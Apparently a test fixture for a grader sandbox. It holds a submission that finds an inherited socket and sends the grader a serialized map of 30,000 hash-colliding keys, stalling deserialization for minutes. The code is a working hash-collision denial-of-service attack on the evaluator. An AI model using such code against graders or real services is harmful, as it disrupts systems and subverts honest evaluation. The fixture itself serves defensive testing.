"""Sends the grader a dict whose keys all have one hash, so that unpacking it takes minutes."""

expected = {"ex2": 0}
harms_itself = True

# %% ex2
import os, socket, stat, struct

def channels():
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield socket.socket(fileno=os.dup(number))
        except OSError:
            pass

count, modulus = 30_000, (1 << 61) - 1
keys = [(modulus * (number + 9)).to_bytes(11, "big") for number in range(count)]
pairs = b"".join(b"\xc7" + bytes([len(key), 0]) + key + b"\xc0" for key in keys)
data = b"\x93\xdf" + struct.pack(">I", count) + pairs + b"\xc3\x01"
next(channels()).sendall(struct.pack("!I", len(data)) + data)

def total(numbers): return None
